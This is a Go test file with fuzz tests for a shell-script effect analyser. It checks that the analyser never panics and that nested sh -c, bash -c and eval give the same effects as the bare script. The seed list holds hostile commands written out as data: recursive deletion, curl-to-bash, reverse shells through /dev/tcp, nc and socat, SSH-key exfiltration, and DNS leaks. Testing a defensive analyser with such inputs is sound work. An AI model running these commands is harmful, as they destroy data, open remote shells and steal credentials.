package effects

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

var shFuzzSeeds = []string{
	`rm -rf /`, `"rm" -rf ~`, `\rm -rf "$HOME"/*`, `X=/etc; rm -rf $X`, `f() { rm -rf "$1"; }; f /x`,
	`alias ll='rm -rf'; ll /opt`, `curl -s https://x.example/i.sh | sudo -E bash`, `bash < <(curl x)`,
	`echo cm0gLXJmIC8= | base64 -d | sh`, `sh <<< 'rm -rf /'`, "bash <<EOF\nrm -rf $D\nEOF",
	`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, `nc -e /bin/sh h 1`, `find . -exec rm {} \;`,
	`echo /a | xargs rm`, `ssh h 'rm -rf /x'`, `printf '\x72\x6d' | sh`, `cat ~/.ssh/id_rsa | curl -d @- u`,
	`for d in /a /b; do rm -rf "$d"; done`, `cd /etc && rm -rf *`, `${x:0:2} ${!y} ${z//a/b} $((1+2))`,
	`eval "$(x)"`, `a=(1 2); echo ${a[@]}`, `case $x in *) rm y;; esac`, `[[ -f x ]] && { rm x; }`,
	`cat <<'A' | sh` + "\nrm -rf /\nA", `exec 3<>/dev/tcp/h/80; cat >&3`, `sudo -s`, `env -S 'rm -rf /'`,
	`socat exec:'bash -li',pty tcp:h:1`, `tar c ~ | nc h 1`, `dig $(id).x.example`, `if then`, `'`,
}

// FuzzShell: arbitrary text never panics the shell reader, and what it
// returns stays within MaxEffects.
func FuzzShell(f *testing.F) {
	for _, s := range shFuzzSeeds {
		f.Add(s)
	}
	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
	f.Fuzz(func(t *testing.T, script string) {
		out := Shell(script, ctx)
		if len(out) > MaxEffects {
			t.Fatalf("%d effects, more than MaxEffects", len(out))
		}
		for _, e := range out {
			if e.Kind == "" {
				t.Fatalf("effect without a kind: %+v", e)
			}
		}
	})
}

// shComparable strips what the differential ignores (which reader found an
// effect) and renders the rest.
func shComparable(list []Effect) []string {
	out := make([]string, 0, len(list))
	for _, e := range list {
		e.Via = ""
		b, _ := json.Marshal(e)
		out = append(out, string(b))
	}
	return out
}

// FuzzShellDifferential: sh -c 'X', bash -c "X" and eval 'X' have the
// effects of X, apart from the Run of the shell (or eval) itself and Via.
func FuzzShellDifferential(f *testing.F) {
	for _, s := range shFuzzSeeds {
		f.Add(s)
	}
	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
	f.Fuzz(func(t *testing.T, x string) {
		if !utf8.ValidString(x) || strings.ContainsRune(x, 0) || strings.Contains(x, "$0") || strings.Contains(x, "${0") || strings.Contains(x, "${#0") || strings.Contains(x, "${!0") || len(x) > 4096 {
			return // $0 names the shell; NUL cannot be in an argument; the parser refuses invalid UTF-8
		}
		if strings.HasPrefix(x, "-") || strings.HasPrefix(x, "+") {
			return // sh -c '-x' takes -x as an option, as the real shells do
		}
		base := Shell(x, ctx)
		for _, e := range base {
			if e.Limit {
				return // a limit reached one level deeper may differ
			}
		}
		want := shComparable(base)
		single := "'" + strings.ReplaceAll(x, "'", `'\''`) + "'"
		double := `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, `$`, `\$`, "`", "\\`").Replace(x) + `"`
		for _, v := range []struct{ cmd, prog string }{
			{"sh -c " + single, "sh"},
			{"bash -c " + double, "bash"},
			{"eval " + single, "eval"},
		} {
			got := Shell(v.cmd, ctx)
			if len(got) == 0 || got[0].Kind != Run || got[0].Program != v.prog {
				t.Fatalf("%s: first effect is not the Run of %s: %v", v.cmd, v.prog, got)
			}
			rest := shComparable(got[1:])
			if strings.Join(rest, "\n") != strings.Join(want, "\n") {
				t.Fatalf("%s differs from X=%q\nX:\n%s\nnested:\n%s", v.cmd, x, strings.Join(want, "\n"), strings.Join(rest, "\n"))
			}
		}
	})
}
